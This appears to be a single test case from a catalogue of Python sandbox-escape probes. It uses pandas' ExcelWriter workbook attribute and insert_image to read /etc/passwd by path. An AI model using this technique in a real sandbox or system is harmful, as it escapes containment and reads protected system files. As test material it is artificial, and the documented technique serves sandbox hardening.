# class: private-attributes
# mechanism: attribute that leads out
# how: picture read by path
# reaches: reads /etc/passwd
import pandas as pd, io
w = pd.ExcelWriter(io.BytesIO())
w.book.add_worksheet("a").insert_image("A1", "/etc/passwd")
